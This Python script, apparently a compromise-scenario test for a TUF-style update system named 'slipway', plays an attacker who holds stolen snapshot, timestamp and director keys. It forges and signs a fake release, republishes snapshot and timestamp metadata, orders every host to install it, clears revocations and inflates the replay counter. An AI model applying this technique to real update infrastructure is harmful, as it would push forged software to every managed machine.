"""Whoever took the controller: its folder is theirs, with the snapshot, timestamp and director keys.

thief.py FOLDER [ENVIRONMENT PRODUCT]. Lists a release of their own in the product's role, signs it with every key there is, publishes it under a fresh snapshot and
timestamp, and has the director send it to every host.
"""
import base64
import glob
import hashlib
import json
import os
import subprocess
import sys
import tempfile

folder = sys.argv[1]
metadata = folder + "/repository/metadata/"
ENVIRONMENT, PRODUCT = sys.argv[2:4] or ["staging", "web-service"]
ROLE = f"{ENVIRONMENT}-{PRODUCT}"


def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def sign(key, message):
    with tempfile.NamedTemporaryFile() as file:
        file.write(message)
        file.flush()
        return subprocess.run(
            ["openssl", "pkeyutl", "-sign", "-rawin", "-inkey", f"{folder}/keys/{key}.pem", "-in", file.name],
            check=True, capture_output=True).stdout


def key_id(key):
    der = subprocess.run(
        ["openssl", "pkey", "-in", f"{folder}/keys/{key}.pem", "-pubout", "-outform", "DER"],
        check=True, capture_output=True).stdout
    public = {"keytype": "ed25519", "scheme": "ed25519", "keyval": {"public": der[-32:].hex()}}
    return hashlib.sha256(canonical(public)).hexdigest()


def newest(role):
    paths = glob.glob(f"{metadata}*.{role}.json")
    return max(paths, key=lambda path: int(os.path.basename(path).split(".")[0]))


def publish(role, signed, keys, name=None):
    envelope = {"signed": signed, "signatures": [
        {"keyid": key_id(key), "sig": sign(key, canonical(signed)).hex()} for key in keys]}
    data = canonical(envelope)
    with open(metadata + (name or f"{signed['version']}.{role}.json"), "wb") as file:
        file.write(data)
    return {"version": signed["version"], "length": len(data), "hashes": {"sha256": hashlib.sha256(data).hexdigest()}}


manifest = canonical({"product": PRODUCT, "version": "9.9"})
digest = hashlib.sha256(manifest).hexdigest()
place = f"{folder}/repository/targets/{ENVIRONMENT}/{PRODUCT}/9.9"
os.makedirs(place)
with open(f"{place}/{digest}.manifest.json", "wb") as file:
    file.write(manifest)

role = json.load(open(newest(ROLE)))["signed"]
role["version"] += 1
role["targets"][f"{ENVIRONMENT}/{PRODUCT}/9.9/manifest.json"] = {"hashes": {"sha256": digest}, "length": len(manifest)}
everything = ["snapshot", "timestamp", "director"]
reference = publish(ROLE, role, everything)
snapshot = json.load(open(newest("snapshot")))["signed"]
snapshot["version"] += 1
snapshot["meta"][ROLE + ".json"] = reference
reference = publish("snapshot", snapshot, ["snapshot"])
timestamp = json.load(open(metadata + "timestamp.json"))["signed"]
timestamp["version"] += 1
timestamp["meta"]["snapshot.json"] = reference
publish("timestamp", timestamp, ["timestamp"], name="timestamp.json")

channel = f"{folder}/repository/director/{ENVIRONMENT}.{PRODUCT}.json"
word = json.loads(base64.b64decode(json.load(open(channel))["payload"]))
word["order"] = {"rollout": "theft", "action": "install", "attempt": 1}
word["release"] = f"{PRODUCT}@9.9"
word["manifest"] = digest
word["targetPath"] = f"{ENVIRONMENT}/{PRODUCT}/9.9/manifest.json"
word["counter"] += 1000
word["revoked"] = []
word["audience"]["channel"].update({"bucketBound": 1 << 32, "excluded": []})


def say(word):
    """The director's word under the director's key: a DSSE envelope."""
    payload = canonical(word)
    kind = "application/vnd.slipway.assignment+json"
    message = f"DSSEv1 {len(kind)} {kind} {len(payload)} ".encode() + payload
    return canonical({"payload": base64.b64encode(payload).decode(), "payloadType": kind, "signatures": [
        {"keyid": key_id("director"), "sig": base64.b64encode(sign("director", message)).decode()}]})


with open(channel, "wb") as file:
    file.write(say(word))
